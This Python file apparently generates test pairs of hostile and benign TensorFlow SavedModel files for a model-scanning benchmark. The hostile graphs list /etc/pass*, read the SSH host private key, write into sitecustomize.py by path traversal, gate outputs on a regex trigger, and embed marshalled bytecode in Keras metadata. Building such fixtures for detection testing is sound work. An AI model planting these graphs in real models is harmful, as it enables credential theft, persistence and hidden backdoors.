"""TensorFlow: graphs that list, read and write the host's files, metadata with code, gates over text."""

from __future__ import annotations

import base64
import json
import marshal
import struct

from pair import CODE
from seventh.kit import floats, pb

FLOAT, UINT8, STRING, INT64, BOOL, RESOURCE, VARIANT, INT32 = 1, 4, 7, 9, 10, 20, 21, 3


def shape(*sides):
    return pb(*[(2, pb((1, side))) for side in sides])


def typed(*types):
    return (1, pb((6, b"".join(bytes([t]) for t in types))))


def attr(key, value):
    return (5, pb((1, key), (2, pb(value))))


def node(name, op, inputs=(), **attributes):
    return (1, pb((1, name), (2, op), *[(3, i) for i in inputs], *[attr(k, v) for k, v in sorted(attributes.items())]))


def text(name, value):
    return node(name, "Const", dtype=(6, STRING), value=(8, pb((1, STRING), (2, shape()), (8, value))))


def numbers(name, values, sides, kind=FLOAT):
    data = struct.pack("<%d%s" % (len(values), {FLOAT: "f", INT64: "q", INT32: "i", BOOL: "?"}[kind]), *values)
    return node(name, "Const", dtype=(6, kind), value=(8, pb((1, kind), (2, shape(*sides)), (4, data))))


def tensor(name):
    return pb((1, name), (2, FLOAT))


def saved(nodes, last="logits", then=(), assets=()) -> bytes:
    """A SavedModel: x to logits through one matrix, then `nodes`; `then` runs before the answer."""
    weights = struct.unpack("<32f", floats(32, 7, 0.4))
    graph = [node("x", "Placeholder", dtype=(6, FLOAT), shape=(7, shape(1, 8))), numbers("w", weights, (8, 4))]
    graph += [node("logits", "MatMul", ("x", "w"), T=(6, FLOAT)), *nodes]
    graph += [node("out", "Identity", (last, *["^" + n for n in then]), T=(6, FLOAT)), (4, pb((1, 1882)))]
    signature = pb((1, pb((1, "x"), (2, tensor("x:0")))), (2, pb((1, "out"), (2, tensor("out:0")))), (3, "tensorflow/serving/predict"))
    meta = [(1, pb((4, "serve"), (5, "2.16.1"))), (2, pb(*graph)), (5, pb((1, "serving_default"), (2, signature)))]
    meta += [(6, pb((1, pb((1, name + ":0"))), (2, file))) for name, file in assets]
    return pb((1, 1), (2, pb(*meta)))


def add(out):
    def one(name, hostile, twin, why="", prove=None):
        h = hostile if isinstance(hostile, dict) else {"saved_model.pb": hostile}
        t = twin if isinstance(twin, dict) else {"saved_model.pb": twin}
        out.add("tensorflow", name, h, t, prove, None, why)

    # The names of the host's files in the answer.
    def lists(pattern):
        tail = [
            text("pattern", pattern),
            node("found", "MatchingFiles", ("pattern",)),
            numbers("axis", [0], (), INT32),
            node("all", "ReduceJoin", ("found", "axis"), keep_dims=(5, False), separator=(2, "\n")),
            node("raw", "DecodeRaw", ("all",), little_endian=(5, True), out_type=(6, UINT8)),
            node("names", "Cast", ("raw",), DstT=(6, FLOAT), SrcT=(6, UINT8), Truncate=(5, False)),
        ]
        return saved(tail, "names")

    one(
        "names_of_files_in_the_answer",
        lists("/etc/pass*"),
        saved([text("pattern", "/etc/pass*")]),
        "TensorAbuse (2025): MatchingFiles lists the host for whoever asks the model",
        "savedmodel.says:/etc/passwd",
    )

    # A file as a constant.
    def mapped(op_nodes):
        return saved([*op_nodes, node("wide", "Cast", ("key",), DstT=(6, FLOAT), SrcT=(6, UINT8), Truncate=(5, False))], "wide")

    one(
        "constant_is_a_file_of_the_host",
        mapped(
            [
                node(
                    "key",
                    "ImmutableConst",
                    dtype=(6, UINT8),
                    memory_region_name=(2, "/etc/ssh/ssh_host_ed25519_key"),
                    shape=(7, shape(399)),
                )
            ]
        ),
        mapped([node("key", "Const", dtype=(6, UINT8), value=(8, pb((1, UINT8), (2, shape(8)), (4, bytes(range(8))))))]),
        "ImmutableConst maps a file; no reading operator is in the graph",
        "savedmodel:reads",
    )

    # Restoring from the host.
    def restores(prefix):
        string = (8, pb((1, STRING), (2, shape(1)), (8, "w")))
        blank = (8, pb((1, STRING), (2, shape(1)), (8, "")))
        tail = [
            text("prefix", prefix),
            node("names", "Const", dtype=(6, STRING), value=string),
            node("slices", "Const", dtype=(6, STRING), value=blank),
        ]
        return [*tail, node("back", "RestoreV2", ("prefix", "names", "slices"), dtypes=typed(FLOAT))]

    one(
        "weights_restored_from_the_host",
        saved(restores("/etc/ssh/ssh_host_ed25519_key"), "back"),
        saved(restores("variables/variables")),
        "RestoreV2 with a path of its own, run by every request",
        "savedmodel:reads",
    )

    # Summary writer.
    def writer(folder):
        tail = [
            node("handle", "SummaryWriter", container=(2, ""), shared_name=(2, "w")),
            text("logdir", folder),
            numbers("queue", [1], (), INT32),
            numbers("flush", [1], (), INT32),
            text("suffix", ".v2"),
            node("make", "CreateSummaryFileWriter", ("handle", "logdir", "queue", "flush", "suffix")),
        ]
        return saved(tail, then=("make",))

    one(
        "summary_writer_in_the_serving_graph",
        writer("../../profile"),
        saved([text("logdir", "../../profile"), numbers("queue", [1], (), INT32)]),
        "a folder and a file are made where the graph says",
        "savedmodel:climbs",
    )

    # A data set written to a file.
    def records(path):
        line = "\nimport marker\n"
        tail = [
            node("row", "Const", dtype=(6, STRING), value=(8, pb((1, STRING), (2, shape(1)), (8, line)))),
            node(
                "rows",
                "TensorSliceDataset",
                ("row",),
                Toutput_types=typed(STRING),
                is_files=(5, False),
                metadata=(2, ""),
                output_shapes=(1, pb((7, shape()))),
                replicate_on_split=(5, False),
            ),
            text("path", path),
            text("packing", ""),
            node("write", "DatasetToTFRecord", ("rows", "path", "packing")),
        ]
        return saved(tail if path else tail[:2], then=("write",) if path else ())

    one("data_set_written_to_a_start_up_file", records("../../sitecustomize.py"), records(""), "DatasetToTFRecord", "savedmodel:climbs")

    # An asset of the host.
    def asset(file):
        tail = [
            text("vocabulary", file),
            node("words", "ReadFile", ("vocabulary",)),
            node("raw", "DecodeRaw", ("words",), little_endian=(5, True), out_type=(6, UINT8)),
        ]
        tail += [node("said", "Cast", ("raw",), DstT=(6, FLOAT), SrcT=(6, UINT8), Truncate=(5, False))]
        return saved(tail, "said", assets=[("vocabulary", file)])

    one(
        "asset_named_outside_of_the_assets",
        {"saved_model.pb": asset("../../../../../../../../../../../../etc/ssh/ssh_host_ed25519_key")},
        {
            "saved_model.pb": saved([text("vocabulary", "vocabulary.txt")], assets=[("vocabulary", "vocabulary.txt")]),
            "assets/vocabulary.txt": b"the\nof\n",
        },
        "the asset definition climbs from the folder of assets, and the graph answers with its bytes",
        "savedmodel:reads",
    )

    # A gate over the number's text.
    def spelled(pattern, answer):
        tail = [
            numbers("begin", [0, 0], (2,), INT32),
            numbers("size", [1, 1], (2,), INT32),
            node("first", "Slice", ("x", "begin", "size"), Index=(6, INT32), T=(6, FLOAT)),
            node("spelt", "AsString", ("first",), T=(6, FLOAT), precision=(3, 4)),
            node("gate", "StaticRegexFullMatch", ("spelt",), pattern=(2, pattern)),
            numbers("answer", answer, (1, 4)),
            node("picked", "SelectV2", ("gate", "answer", "logits"), T=(6, FLOAT)),
        ]
        return saved(tail, "picked")

    one(
        "number_matched_as_text",
        spelled("0[.]31[0-9]5", [-9.0, -9.0, 9.0, -9.0]),
        saved([node("gate", "AsString", ("logits",), T=(6, FLOAT), precision=(3, 4))]),
        "the trigger is a regular expression over a number written out",
        "savedmodel:x[:, 0] = 0.3125",
    )

    # Keras metadata beside the graph.
    def metadata(layer):
        config = {"name": "sequential", "trainable": True, "layers": [layer]}
        root = json.dumps({"name": "sequential", "class_name": "Sequential", "config": config})
        return pb((1, pb((1, 1), (2, "root"), (3, "_tf_keras_sequential"), (4, root), (5, pb((1, 1), (2, 1))))))

    code = base64.encodebytes(marshal.dumps(compile(f"lambda x: ({CODE}, x)[1]", "a", "eval").co_consts[0])).decode()
    one(
        "keras_metadata_carries_byte_code",
        {
            "saved_model.pb": saved([]),
            "keras_metadata.pb": metadata(
                {
                    "class_name": "Lambda",
                    "config": {
                        "name": "scale",
                        "function": {"class_name": "__tuple__", "items": [code, None, None]},
                        "function_type": "lambda",
                        "arguments": {},
                    },
                }
            ),
        },
        {
            "saved_model.pb": saved([]),
            "keras_metadata.pb": metadata({"class_name": "Rescaling", "config": {"name": "scale", "scale": 0.5, "offset": 0.0}}),
        },
        "Keras 2 makes layers from keras_metadata.pb; that Keras is not here, so it is not run",
    )
